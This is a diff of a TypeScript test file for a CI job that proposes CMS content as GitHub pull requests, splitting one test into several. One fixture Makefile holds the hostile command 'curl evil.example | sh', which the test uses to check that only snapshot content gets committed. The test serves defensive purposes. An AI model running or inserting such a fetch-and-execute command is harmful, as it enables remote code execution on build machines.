@@ -51,7 +51,8 @@ async function commitContent(work: string) {
   return git;
 }
 
-test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
+/** A repository with content. `propose` runs the job that proposes other content, and returns its calls of `gh`. */
+async function repository() {
   const { temp, put, run } = await machine();
   const [origin, work] = [join(temp, "origin.git"), join(temp, "work")];
   const git = (cwd: string, ...args: string[]) => gitIn(cwd)(...args);
@@ -61,53 +62,66 @@ test("content is proposed in one pull request, which is updated, and closed when
   write("Makefile", "all:\n");
   await commitContent(work);
   git(work, "push", "--quiet", "origin", "HEAD:main");
-  const propose = (
-    number: string,
-    snapshot: string,
-    { makefile = "all:\n", words = "# 1 document changed\n" } = {},
-  ) => {
-    write("snapshot/a.json", snapshot);
-    write("Makefile", makefile);
-    put("body.md", "What changed\n");
-    put("words.txt", words);
-    put("review.md", "");
-    put("snapshot.patch", `${git(work, "diff", "--binary")}\n`);
-    const job = join(temp, "job");
-    rmSync(job, { recursive: true, force: true });
-    git(temp, "clone", "--quiet", "--depth=1", `file://${origin}`, job);
-    run("propose", "Take the content", "", {}, job);
-    return run("propose", "Open or update the pull request", number, {}, job);
+  const inOrigin = (...args: string[]) => git(origin, ...args);
+  return {
+    temp,
+    put,
+    inOrigin,
+    proposed: (name: string) => inOrigin("show", `content/update:${name}`),
+    propose(number: string, snapshot: string, { makefile = "all:\n", words = "# 1 document changed\n" } = {}) {
+      write("snapshot/a.json", snapshot);
+      write("Makefile", makefile);
+      put("body.md", "What changed\n");
+      put("words.txt", words);
+      put("review.md", "");
+      put("snapshot.patch", `${git(work, "diff", "--binary")}\n`);
+      const job = join(temp, "job");
+      rmSync(job, { recursive: true, force: true });
+      git(temp, "clone", "--quiet", "--depth=1", `file://${origin}`, job);
+      run("propose", "Take the content", "", {}, job);
+      return run("propose", "Open or update the pull request", number, {}, job);
+    },
   };
-  const proposed = (name: string) => git(origin, "show", `content/update:${name}`);
+}
 
+test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
+  const { propose, proposed } = await repository();
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
-  // The patch's other files are not committed.
-  expect(propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" })[1]).toMatch(
-    /^pr create .*--body-file TEMP\/pull-request\.md$/,
-  );
-  expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2", "all:"]);
-  // With the same content, the text of a person who edited the pull request stays.
+  expect(propose("", "2\n")[1]).toMatch(/^pr create .*--body-file TEMP\/pull-request\.md$/);
+  // If the content is the same, a pull request keeps the text that a person has given it.
   expect(propose("7", "2\n")).toEqual(["auth setup-git"]);
-  // Only the pictures of the newest proposal are stored, and no other files.
+  expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/pull-request.md");
+  expect(proposed("snapshot/a.json")).toBe("3");
+  expect(propose("7", "1\n")[1]).toMatch(/^pr close 7 --delete-branch/);
+});
+
+test("a proposal has no file of the patch but content", async () => {
+  const { propose, proposed } = await repository();
+  propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" });
+  expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2", "all:"]);
+});
+
+test("only the pictures of the newest proposal are stored, and no other files", async () => {
+  const { temp, put, propose, inOrigin } = await repository();
   for (const name of ["first", "second"]) {
     rmSync(join(temp, "pictures"), { recursive: true, force: true });
     await mkdir(join(temp, "pictures"));
     put(`pictures/${name}.webp`, name);
     put("pictures/index.html", "<script>");
     propose("7", `${name}\n`);
-    expect(git(origin, "ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp`);
-    expect(git(origin, "rev-list", "--count", "content/pictures")).toBe("1");
+    expect(inOrigin("ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp`);
+    expect(inOrigin("rev-list", "--count", "content/pictures")).toBe("1");
   }
-  expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/pull-request.md");
-  expect(proposed("snapshot/a.json")).toBe("3");
-  expect(git(origin, "log", "-1", "--format=%B", "content/update").trim()).toBe(
-    "Update the content from the CMS\n\n# 1 document changed",
-  );
-  // The words of many changes are longer than an argument of a program may be.
-  const long = "# 1 document changed\n".repeat(20_000);
-  propose("7", "4\n", { words: long });
-  expect(git(origin, "log", "-1", "--format=%b", "content/update").trim()).toBe(long.trim());
-  expect(propose("7", "1\n")[1]).toMatch(/^pr close 7 --delete-branch/);
+});
+
+test("the commit of a proposal names all changes, also if they are longer than an argument may be", async () => {
+  const { propose, inOrigin } = await repository();
+  const message = () => inOrigin("log", "-1", "--format=%B", "content/update").trim();
+  propose("", "2\n");
+  expect(message()).toBe("Update the content from the CMS\n\n# 1 document changed");
+  const words = "# 1 document changed\n".repeat(20_000);
+  propose("7", "3\n", { words });
+  expect(message()).toBe(`Update the content from the CMS\n\n${words.trim()}`);
 });
 
 test("no link in an artifact is followed, and no patch proposes anything but plain files", async () => {
